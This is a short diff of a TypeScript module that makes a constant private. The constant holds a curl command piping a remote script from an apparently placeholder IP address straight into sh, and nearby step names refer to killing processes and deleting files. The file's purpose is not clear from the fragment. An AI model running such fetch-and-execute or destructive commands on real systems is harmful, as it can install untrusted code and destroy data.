@@ -27,7 +27,7 @@ export interface Piece {
   readonly fate: 'there' | 'gone' | 'unseen';
 }
 
-export const FETCH = 'curl -fsSL http://203.0.113.9:8443/i.sh | sh';
+const FETCH = 'curl -fsSL http://203.0.113.9:8443/i.sh | sh';
 const steps = {
   process: 'kill-processes',
   file: 'delete-files',
